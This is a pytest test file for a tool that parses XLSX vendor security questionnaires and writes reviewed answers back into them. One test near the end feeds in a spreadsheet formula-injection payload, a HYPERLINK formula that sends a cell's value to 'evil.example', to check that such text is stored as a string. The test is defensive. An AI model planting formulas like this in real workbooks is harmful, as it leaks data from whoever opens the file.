"""XLSX questionnaires as vendors send them (openpyxl builds them here)."""

from __future__ import annotations

import dataclasses
import datetime as dt
import time
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill

from dossier.ingest.workbook import read_xlsx
from dossier.output.workbook import (
    CELL_LIMIT,
    answered_name,
    answers_written,
    fit,
    write_answered,
)
from dossier.records import (
    Answer,
    Claim,
    ColumnSettings,
    Quote,
    Review,
    ReviewStatus,
    Verdict,
)
from tests.vendor_workbooks import caiq_v4, hecvat, sig_lite

WRITTEN_AT = dt.datetime(2026, 11, 30, 9, 15, tzinfo=dt.UTC)


def vendor_workbook(path: Path) -> Path:
    """Two title rows (one merged), a styled header Ref | Question Text | Response | Notes,
    a section row, a blank row, a question without a Ref, and a second sheet of prose."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Security"
    sheet["A1"] = "Acme Vendor Security Questionnaire 2026"
    sheet["A1"].font = Font(bold=True, size=16)
    sheet.merge_cells("A1:D1")
    sheet["A2"] = "Please answer every question."
    for column, name in enumerate(["Ref", "Question Text", "Response", "Notes"], start=1):
        cell = sheet.cell(row=3, column=column, value=name)
        cell.font = Font(bold=True)
        cell.fill = PatternFill("solid", fgColor="DDDDDD")
    sheet.append(["Access control"])  # a section row: no question
    sheet.append(["AC.1", "Is multi-factor authentication required?", None, "keep me"])
    sheet.append([])
    sheet.append([None, "How long are invoices retained?", None, None])
    sheet.append([2.0, "Do you offer source code escrow?", None, None])
    notes = book.create_sheet("Instructions")
    notes["A1"] = "Return this file to procurement@acme.example."
    book.save(path)
    return path


def test_questions_are_found_below_the_named_header(tmp_path: Path) -> None:
    questions, skipped = read_xlsx(vendor_workbook(tmp_path / "acme.xlsx"))
    assert [q.question_id for q in questions] == ["AC.1", "Security!R7", "2"]
    assert questions[0].question == "Is multi-factor authentication required?"
    assert questions[0].fields == {"sheet": "Security", "row": "5"}
    assert questions[1].location == "acme.xlsx:Security!7"
    assert skipped == [  # beside the questions: where they were read from, and the key
        "acme.xlsx: sheet 'Instructions' skipped: no question column (no header row found); "
        "the questions were read from another sheet. If this sheet holds questions too, name "
        'its question column in dossier.toml: [questionnaire] question_column = "..."'
    ]


def test_a_workbook_without_questions_says_which_column_to_name(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    book.active.title = "Cover"
    book.active.append(["Company name", "Acme"])
    path = tmp_path / "cover.xlsx"
    book.save(path)
    questions, skipped = read_xlsx(path)
    assert questions == []
    assert skipped == [
        "cover.xlsx: sheet 'Cover' skipped: no question column in its top 30 rows "
        "(the headers found: 'Company name', 'Acme'); name the question column in "
        'dossier.toml: [questionnaire] question_column = "..."'
    ]


def test_a_group_header_merged_over_columns_is_not_the_header_row(tmp_path: Path) -> None:
    """CAIQ's sheet groups its columns under merged headers ("Question" over "Question
    ID | Question | CSP CAIQ Answer"): the group row was taken for the header, the ids
    read as questions and the real header row as an answer row. A section title in the
    question column, without an id, is no question."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "CAIQ"
    sheet.append(["CAIQ v4 - Cloud Security Alliance"])
    sheet.merge_cells("A1:D1")
    sheet.append(["Question", None, None, "CSP Response"])
    sheet.merge_cells("A2:C2")
    sheet.append(["Question ID", "Question", "CSP CAIQ Answer", "CSP Implementation Description"])
    sheet.append(["A&A-01.1", "Are audit and assurance policies established?", None, None])
    sheet.append([None, "Section: Data Security", None, None])
    sheet.append([None, "Describe how data is classified", None, None])
    sheet.append(["DSP-17.1", "Is user access reviewed quarterly?", None, None])
    book.save(tmp_path / "caiq.xlsx")
    questions, _ = read_xlsx(tmp_path / "caiq.xlsx")
    assert [(q.question_id, q.question) for q in questions] == [
        ("A&A-01.1", "Are audit and assurance policies established?"),
        ("CAIQ!R6", "Describe how data is classified"),
        ("DSP-17.1", "Is user access reviewed quarterly?"),
    ]


def test_ids_excel_typed_as_dates_read_as_dates(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["ID", "Question"])
    sheet.append([dt.datetime(2024, 1, 2), "Is data encrypted at rest?"])
    sheet.append([dt.datetime(2024, 1, 3, 9, 30), "Are backups tested?"])
    sheet.append([dt.time(10, 15), "Is MFA required?"])
    book.save(tmp_path / "dates.xlsx")
    questions, _ = read_xlsx(tmp_path / "dates.xlsx")
    assert [q.question_id for q in questions] == ["2024-01-02", "2024-01-03 09:30:00", "10:15:00"]


def test_configured_column_names_win(tmp_path: Path) -> None:
    path = vendor_workbook(tmp_path / "acme.xlsx")
    questions, _ = read_xlsx(path, ColumnSettings(question_column="Notes"))
    assert [q.question for q in questions] == ["keep me"]


def _answer(question_id: str, row: int, text: str) -> Answer:
    quote = Quote("MFA is required.", "policies/a.md", "c1", 10, 26)
    return Answer(
        question_id,
        "q",
        "grounded",
        text,
        (Claim("MFA is required.", (quote,)),),
        (),
        (),
        (),
        fields={"sheet": "Security", "row": str(row)},
    )


def test_answered_copy_keeps_every_other_cell_style_and_sheet(tmp_path: Path) -> None:
    source = vendor_workbook(tmp_path / "acme.xlsx")
    target = tmp_path / answered_name(source)  # type: ignore[operator]
    written = write_answered(
        source, [_answer("AC.1", 5, "Yes: MFA is required.")], target, ColumnSettings(), WRITTEN_AT
    )
    assert written == tmp_path / "acme.answered.xlsx"
    before, after = openpyxl.load_workbook(source), openpyxl.load_workbook(written)
    assert after.sheetnames == before.sheetnames
    assert after["Security"]["C5"].value == "Yes: MFA is required."
    for sheet in before.sheetnames:
        for row in before[sheet].iter_rows():
            for cell in row:
                if (sheet, cell.coordinate) == ("Security", "C5"):
                    continue
                twin = after[sheet][cell.coordinate]
                assert twin.value == cell.value, cell.coordinate
                assert repr(twin.font) == repr(cell.font), cell.coordinate
                assert repr(twin.fill) == repr(cell.fill), cell.coordinate
    assert [str(r) for r in after["Security"].merged_cells.ranges] == ["A1:D1"]


def test_verdict_and_citation_columns_are_filled_when_present(tmp_path: Path) -> None:
    source = vendor_workbook(tmp_path / "acme.xlsx")
    book = openpyxl.load_workbook(source)
    book["Security"]["E3"] = "Citations"
    book["Security"]["F3"] = "Verdict"
    book.save(source)
    titles = {"policies/a.md": "Access Policy"}
    answers = [_answer("AC.1", 5, "Yes.")]
    written = write_answered(
        source, answers, tmp_path / "a.xlsx", ColumnSettings(), WRITTEN_AT, titles
    )
    sheet = openpyxl.load_workbook(written)["Security"]
    assert sheet["F5"].value == "grounded"
    assert sheet["E5"].value == "Access Policy (policies/a.md)"  # titles and paths


@pytest.mark.parametrize("header", ["ID", "Question", "Answer"])
def test_usual_header_names(tmp_path: Path, header: str) -> None:
    book = openpyxl.Workbook()
    book.active.append(["ID", "Question", "Answer"])
    book.active.append(["Q1", "Do you encrypt backups?", None])
    book.save(tmp_path / "q.xlsx")
    questions, skipped = read_xlsx(tmp_path / "q.xlsx")
    assert [(q.question_id, q.question) for q in questions] == [("Q1", "Do you encrypt backups?")]
    assert skipped == []


def test_answered_name_only_for_workbooks() -> None:
    assert answered_name(Path("q/Vendor 2026.xlsx")) == "Vendor 2026.answered.xlsx"
    assert answered_name(Path("q/macro.XLSM")) == "macro.answered.xlsx"
    assert answered_name(Path("q/plain.csv")) is None


def test_the_same_answers_give_the_same_bytes(tmp_path: Path) -> None:
    """The copy is an artefact the signature covers: written twice, a second apart,
    it must not differ by the time of writing."""
    source = vendor_workbook(tmp_path / "acme.xlsx")
    answers = [_answer("AC.1", 5, "Yes.")]
    first = write_answered(source, answers, tmp_path / "1.xlsx", ColumnSettings(), WRITTEN_AT)
    time.sleep(1.1)
    second = write_answered(source, answers, tmp_path / "2.xlsx", ColumnSettings(), WRITTEN_AT)
    assert first.read_bytes() == second.read_bytes()
    book = openpyxl.load_workbook(first)
    assert book.properties.modified == WRITTEN_AT.replace(tzinfo=None)
    later = WRITTEN_AT + dt.timedelta(days=1)
    third = write_answered(source, answers, tmp_path / "3.xlsx", ColumnSettings(), later)
    assert third.read_bytes() != first.read_bytes()


def test_an_answered_copy_can_be_answered_again(tmp_path: Path) -> None:
    """After a review the copy is filled again from itself: the new answer replaces
    the old and nothing else moves."""
    source = vendor_workbook(tmp_path / "acme.xlsx")
    target = tmp_path / "acme.answered.xlsx"
    write_answered(source, [_answer("AC.1", 5, "Yes.")], target, ColumnSettings(), WRITTEN_AT)
    fresh = tmp_path / "fresh.xlsx"
    edited = [_answer("AC.1", 5, "Yes, for every account.")]
    write_answered(source, edited, fresh, ColumnSettings(), WRITTEN_AT)
    write_answered(target, edited, target, ColumnSettings(), WRITTEN_AT, earlier_is_ours=True)
    assert openpyxl.load_workbook(target)["Security"]["C5"].value == "Yes, for every account."
    assert target.read_bytes() == fresh.read_bytes()


def _with_saved_value(path: Path, cell: str, value: str) -> None:
    """Give a formula cell the value a spreadsheet program saves with it."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    start = sheet.index(f'<c r="{cell}"')
    end = sheet.index("</c>", start)
    formula = sheet[sheet.index("<f>", start) : sheet.index("</f>", start) + 4]
    sheet = sheet[:start] + f'<c r="{cell}" t="str">{formula}<v>{value}</v>' + sheet[end:]
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)


def test_a_question_written_as_a_formula_is_read_as_the_text_it_shows(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["ID", "Question", "Answer"])
    book.active.append(["Q1", '="Is data " & "encrypted at rest?"', None])
    book.active.append(["Q2", '="Never " & "opened in a spreadsheet?"', None])
    book.save(tmp_path / "q.xlsx")
    _with_saved_value(tmp_path / "q.xlsx", "B2", "Is data encrypted at rest?")
    questions, notes = read_xlsx(tmp_path / "q.xlsx")
    assert [(q.question_id, q.question) for q in questions] == [
        ("Q1", "Is data encrypted at rest?")
    ]
    assert notes == [
        "q.xlsx: sheet 'Sheet' row 3: the question is a formula with no saved value "
        "(open and save the workbook in a spreadsheet program); skipped"
    ]


def test_an_answer_cell_merged_into_another_is_named(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.active.append(["ID", "Question", "Answer"])
    book.active.append(["6", "Are visitors escorted?", None])
    book.active.append(["7", "Are visitor logs kept?", None])
    book.active.merge_cells("C2:C3")
    book.save(tmp_path / "q.xlsx")
    questions, notes = read_xlsx(tmp_path / "q.xlsx")
    assert [q.question_id for q in questions] == ["6", "7"]
    assert notes == [
        "q.xlsx: sheet 'Sheet' row 3: the answer to 7 is not written into its text cell C3, "
        "merged into another cell; nothing of it is written"
    ]


def test_a_merged_text_cell_beside_a_free_choice_cell_says_the_choice_is_written(
    tmp_path: Path,
) -> None:
    """Choice C4 and text D4 merged: C4 (the merge's own cell) takes the Yes or No;
    the note said nothing was written."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["ID", "Question", "Yes/No", "Comments"])
    sheet.append(["X-1", "Are visitors escorted?", None, None])
    sheet.merge_cells("C2:D2")
    book.save(tmp_path / "q.xlsx")
    _, notes = read_xlsx(tmp_path / "q.xlsx")
    assert notes == [
        "q.xlsx: sheet 'Sheet' row 2: the answer to X-1 is not written into its text cell D2, "
        "merged into another cell; the rest is"
    ]


# The vendor's own layouts (issue 14): each column gets what it asks for.

TITLES = {
    "policies/access.md": "Access Control Policy",
    "policies/crypto.md": "Encryption Standard",
}
NOT_COVERED = "The documents do not answer this question.\n- source code escrow"
CAIQ_ROWS = {"IAM-01.1": 5, "IAM-02.1": 6, "DSP-01.1": 8, "DSP-02.1": 9}  # rows 4 and 7: sections


def reply(
    question_id: str,
    row: int,
    short: str,
    status: ReviewStatus = "pending",
    sheet: str = "CAIQv4",
    reason: str | None = None,
) -> Answer:
    """An answer as the engine gives it: Yes, No or a value grounded in a quote of
    the access policy; Not covered unsupported; Needs review escalated."""
    verdicts: dict[str, Verdict] = {"Not covered": "unsupported", "Needs review": "escalate"}
    verdict: Verdict = verdicts.get(short, "grounded")
    quote = Quote("Access is reviewed quarterly.", "policies/access.md", "c9", 40, 69)
    claims = () if verdict == "unsupported" else (Claim(quote.text, (quote,)),)
    prose = (
        NOT_COVERED
        if verdict == "unsupported"
        else (
            "The documents state:\n- “Access is reviewed quarterly.” "
            "(Access Control Policy, policies/access.md)"
        )
    )
    review = Review(status, "Ada" if status != "pending" else None, "2026-12-01T10:00:00Z", reason)
    return Answer(
        question_id,
        "q",
        verdict,
        prose,
        claims,
        (),
        ("source code escrow",) if verdict == "unsupported" else (),
        (),
        review=review,
        fields={"sheet": sheet, "row": str(row)},
        short_answer=short,
    )


def caiq_answers(status: ReviewStatus = "pending") -> list[Answer]:
    shorts = {
        "IAM-01.1": "Yes",
        "IAM-02.1": "quarterly",
        "DSP-01.1": "No",
        "DSP-02.1": "Not covered",
    }
    return [reply(qid, CAIQ_ROWS[qid], shorts[qid], status) for qid in CAIQ_ROWS]


def answered_caiq(tmp_path: Path, answers: list[Answer], name: str = "out.xlsx") -> Any:
    source = tmp_path / "caiq.xlsx"
    if not source.exists():
        caiq_v4(source)
        book = openpyxl.load_workbook(source)
        book["CAIQv4"]["D5"] = "Shared CSP and CSC"  # the vendor chose an ownership already
        book.save(source)
    target = tmp_path / name
    write_answered(source, answers, target, ColumnSettings(), WRITTEN_AT, TITLES)
    return openpyxl.load_workbook(target)["CAIQv4"]


def test_caiq_choice_column_gets_only_yes_or_no_of_its_list(tmp_path: Path) -> None:
    sheet = answered_caiq(tmp_path, caiq_answers())
    assert [sheet[f"C{row}"].value for row in (5, 6, 8, 9)] == ["Yes", None, "No", None]
    for row in range(4, 10):
        assert sheet[f"C{row}"].value in (None, "Yes", "No", "NA")
    [listed] = [v for v in sheet.data_validations.dataValidation if v.formula1 == '"Yes,No,NA"']
    assert str(listed.sqref) == "C4:C9"  # the list itself is kept


def test_caiq_description_gets_the_short_answer_then_the_quotes_with_titles(
    tmp_path: Path,
) -> None:
    sheet = answered_caiq(tmp_path, caiq_answers())
    assert sheet["E5"].value.startswith("Yes.\nThe documents state:\n- “Access is reviewed")
    assert "(Access Control Policy, policies/access.md)" in sheet["E5"].value
    assert sheet["E6"].value.startswith("quarterly.\n")  # a value: said in the text, no choice
    assert sheet["E9"].value == "Not covered.\n" + NOT_COVERED  # the reason, where text goes


def test_caiq_ownership_and_customer_responsibility_columns_are_left_alone(
    tmp_path: Path,
) -> None:
    sheet = answered_caiq(tmp_path, caiq_answers())
    ownership = [sheet[f"D{row}"].value for row in range(4, 10)]
    assert ownership == [
        None,
        "Shared CSP and CSC",
        None,
        None,
        None,
        None,
    ]  # as the vendor left it
    assert all(sheet[f"F{row}"].value is None for row in range(4, 10))
    assert sheet.freeze_panes == "C4"


def test_draft_marks_until_approved(tmp_path: Path) -> None:
    draft = answered_caiq(tmp_path, caiq_answers(), "draft.xlsx")
    for cell in ("C5", "E5", "C8", "E9"):
        assert draft[cell].comment.text.startswith("Draft: awaiting review"), cell
    assert draft["C9"].comment is None  # left empty: nothing to mark
    assert draft["D5"].comment is None  # ownership: untouched
    approved = answered_caiq(tmp_path, caiq_answers("approved"), "approved.xlsx")
    assert all(approved[f"{c}{r}"].comment is None for c in "CE" for r in CAIQ_ROWS.values())
    assert approved["C5"].value == "Yes" and approved["E9"].value.startswith("Not covered.")


def test_a_rejected_answer_is_left_empty_with_the_reason_as_a_comment(tmp_path: Path) -> None:
    answers = caiq_answers("approved")
    answers[0] = reply("IAM-01.1", 5, "Yes", "rejected", reason="Needs the MFA standard")
    sheet = answered_caiq(tmp_path, answers)
    assert sheet["C5"].value is None and sheet["E5"].value is None
    expected = "Rejected by Ada at 2026-12-01T10:00:00Z: Needs the MFA standard"
    assert sheet["C5"].comment.text == expected and sheet["E5"].comment.text == expected
    assert sheet["C8"].value == "No" and sheet["C8"].comment is None


def test_an_edit_says_its_own_yes_or_no(tmp_path: Path) -> None:
    edited = dataclasses.replace(
        reply("DSP-02.1", 9, "Not covered", "edited"), answer="Yes: escrow is offered via a vault."
    )
    sheet = answered_caiq(tmp_path, [edited])
    assert sheet["C9"].value == "Yes"
    assert sheet["E9"].value == "Yes: escrow is offered via a vault."  # the reviewer's words
    assert sheet["C9"].comment is None


def test_an_edit_without_a_yes_or_no_leaves_the_choice_to_no_one(tmp_path: Path) -> None:
    """The engine said Yes; the reviewer's words say otherwise and give no Yes or No:
    the choice column must not keep the engine's Yes beside them."""
    edited = dataclasses.replace(
        reply("DSP-02.1", 9, "Yes", "edited"), answer="Escrow was withdrawn in 2025."
    )
    sheet = answered_caiq(tmp_path, [edited])
    assert sheet["C9"].value is None
    assert sheet["E9"].value == "Escrow was withdrawn in 2025."


def test_the_same_answers_and_decisions_give_the_same_bytes_from_either_copy(
    tmp_path: Path,
) -> None:
    """Approving over the draft copy (a review without the vendor's workbook at hand)
    gives what writing the approved answers into the vendor's workbook gives."""
    answered_caiq(tmp_path, caiq_answers(), "draft.xlsx")
    answered_caiq(tmp_path, caiq_answers("approved"), "approved.xlsx")
    draft = tmp_path / "draft.xlsx"
    write_answered(
        draft,
        caiq_answers("approved"),
        draft,
        ColumnSettings(),
        WRITTEN_AT,
        TITLES,
        earlier_is_ours=True,
    )
    assert draft.read_bytes() == (tmp_path / "approved.xlsx").read_bytes()
    again = answered_caiq(tmp_path, caiq_answers(), "again.xlsx")
    assert again["C5"].comment.text.startswith("Draft")
    assert (tmp_path / "again.xlsx").read_bytes() != draft.read_bytes()


def test_a_vendor_comment_on_an_answer_cell_is_kept(tmp_path: Path) -> None:
    source = caiq_v4(tmp_path / "caiq.xlsx")
    book = openpyxl.load_workbook(source)
    book["CAIQv4"]["E5"].comment = Comment("Mention the identity provider.", "Procurement")
    book.save(source)
    draft = answered_caiq(tmp_path, caiq_answers(), "draft.xlsx")
    assert draft["E5"].comment.text == (
        "Draft: awaiting review. Written from the documents; no person has approved it yet."
        "\n\nMention the identity provider."
    )
    approved = answered_caiq(tmp_path, caiq_answers("approved"), "approved.xlsx")
    assert approved["E5"].comment.text == "Mention the identity provider."
    assert approved["E5"].comment.author == "Procurement"


@pytest.mark.parametrize(
    ("build", "sheet", "first_row"), [(sig_lite, "Lite", 4), (hecvat, "Security", 3)]
)
def test_sig_lite_and_hecvat_choices_come_from_their_lists(
    tmp_path: Path, build: Any, sheet: str, first_row: int
) -> None:
    """Rows: a section, then three questions answered Yes, No, Not covered."""
    source = build(tmp_path / "q.xlsx")
    shorts = ("Yes", "No", "Not covered")
    answers = [
        reply(f"Q{i}", first_row + i, short, "approved", sheet) for i, short in enumerate(shorts)
    ]
    target = tmp_path / "out.xlsx"
    write_answered(source, answers, target, ColumnSettings(), WRITTEN_AT, TITLES)
    written = openpyxl.load_workbook(target)[sheet]
    rows = range(first_row, first_row + 3)
    assert [written[f"C{r}"].value for r in rows] == ["Yes", "No", None]  # never N/A
    assert [written[f"D{r}"].value.split("\n")[0] for r in rows] == ["Yes.", "No.", "Not covered."]


def test_an_answer_longer_than_a_cell_is_cut_at_a_sentence_with_a_note() -> None:
    text = "The documents state:\n" + "Access is reviewed quarterly by each owner. " * 1000
    cut = fit(text, "IAM-02.1")
    assert len(text) > CELL_LIMIT >= len(cut)
    body, note = cut.rsplit("\n", 1)
    assert body.endswith("owner.")
    assert note == "[Cut to fit the cell: the whole answer to IAM-02.1 is in dossier.md.]"
    assert fit("Short.", "Q") == "Short."


def test_answers_written_counts_the_rows_that_hold_an_answer(tmp_path: Path) -> None:
    answers = caiq_answers()
    answered_caiq(tmp_path, answers)
    assert answers_written(tmp_path / "out.xlsx", answers, ColumnSettings()) == 4
    rejected = [dataclasses.replace(a, review=Review("rejected", "Ada", "t")) for a in answers]
    answered_caiq(tmp_path, rejected, "rejected.xlsx")
    assert answers_written(tmp_path / "rejected.xlsx", rejected, ColumnSettings()) == 0


def test_an_escalated_answer_says_needs_review_until_a_person_approves_it(
    tmp_path: Path,
) -> None:
    draft = answered_caiq(tmp_path, [reply("IAM-02.1", 6, "Needs review")], "draft.xlsx")
    assert draft["C6"].value is None  # never a guess at Yes or No
    assert draft["E6"].value.startswith("Needs review.\nThe documents state:")
    approved = [reply("IAM-02.1", 6, "Needs review", "approved")]
    sheet = answered_caiq(tmp_path, approved, "approved.xlsx")
    assert sheet["C6"].value is None
    assert sheet["E6"].value.startswith("The documents state:")


def test_a_value_the_vendor_put_in_an_answer_cell_is_never_lost(tmp_path: Path) -> None:
    """Pre-filled answers were overwritten, and a pre-filled "No" erased, without a
    word: a cell the answer leaves empty keeps its value (marked as the workbook's
    own), one it writes keeps the earlier value in its comment; reading names them."""
    source = vendor_workbook(tmp_path / "acme.xlsx")
    book = openpyxl.load_workbook(source)
    book["Security"]["C5"] = "Last year's answer"
    book["Security"]["C8"] = "Escrow via a third party"
    book.save(source)
    _, notes = read_xlsx(source)
    assert any("2 answer cell row(s) already hold a value (rows 5, 8)" in n for n in notes)
    answers = [
        _answer("AC.1", 5, "Yes: MFA is required."),
        dataclasses.replace(_answer("2", 8, "x"), review=Review("rejected", "Ada", "2026-12-01")),
    ]
    written = write_answered(source, answers, tmp_path / "out.xlsx", ColumnSettings(), WRITTEN_AT)
    sheet = openpyxl.load_workbook(written)["Security"]
    assert sheet["C5"].value == "Yes: MFA is required."
    assert "Replaced this cell's earlier value: “Last year's answer”" in sheet["C5"].comment.text
    assert sheet["C8"].value == "Escrow via a third party"  # a rejected answer erases nothing
    assert "Kept: this value is the workbook's own" in sheet["C8"].comment.text


def test_header_cells_written_as_formulas_are_found_when_writing_too(tmp_path: Path) -> None:
    """Headers exported as ="Question" and ="Answer" were read (from the values the
    workbook saved) but not found when writing (in its formulas): every question was
    answered and nothing was written back."""
    path = tmp_path / "export.xlsx"
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["ID", '="Question"', '="Answer"'])
    sheet.append(["Q1", "Is multi-factor authentication required?", None])
    book.save(path)
    _with_saved_value(path, "B1", "Question")
    _with_saved_value(path, "C1", "Answer")
    questions, _ = read_xlsx(path)
    assert [q.question_id for q in questions] == ["Q1"]
    answer = dataclasses.replace(
        _answer("Q1", 2, "Yes: MFA is required."), fields=questions[0].fields
    )
    written = write_answered(path, [answer], tmp_path / "out.xlsx", ColumnSettings(), WRITTEN_AT)
    assert openpyxl.load_workbook(written).active["C2"].value == "Yes: MFA is required."
    assert answers_written(written, [answer], ColumnSettings()) == 1


def test_a_text_that_opens_with_an_equals_sign_is_written_as_text_not_a_formula(
    tmp_path: Path,
) -> None:
    """openpyxl makes a formula of any string that starts with '=': a document titled
    '=HYPERLINK(...)' (its front-matter) put a live link, or any formula, into the
    citations cell of the workbook sent to the vendor, and an answer whose prose
    opens with '=' into the answer cell (found by an adversarial review)."""
    source = vendor_workbook(tmp_path / "acme.xlsx")
    book = openpyxl.load_workbook(source)
    book["Security"]["E3"] = "Citations"
    book.save(source)
    title = '=HYPERLINK("http://evil.example/?"&B5,"Access Policy")'
    answers = [_answer("AC.1", 5, "=1+1 is what the reviewer wrote.")]
    written = write_answered(
        source, answers, tmp_path / "a.xlsx", ColumnSettings(), WRITTEN_AT, {"policies/a.md": title}
    )
    sheet = openpyxl.load_workbook(written)["Security"]
    assert (sheet["E5"].value, sheet["E5"].data_type) == (f"{title} (policies/a.md)", "s")
    assert (sheet["C5"].value, sheet["C5"].data_type) == ("=1+1 is what the reviewer wrote.", "s")


def test_a_long_answer_wraps_in_its_cell_and_keeps_the_vendors_alignment(
    tmp_path: Path,
) -> None:
    from openpyxl.styles import Alignment

    source = tmp_path / "caiq.xlsx"
    caiq_v4(source)
    book = openpyxl.load_workbook(source)
    book["CAIQv4"]["E5"].alignment = Alignment(vertical="top")
    book.save(source)
    sheet = answered_caiq(tmp_path, caiq_answers())
    assert sheet["E5"].alignment.wrap_text is True  # quotes on several lines
    assert sheet["E5"].alignment.vertical == "top"
    assert not sheet["C5"].alignment.wrap_text  # "Yes" needs no wrapping
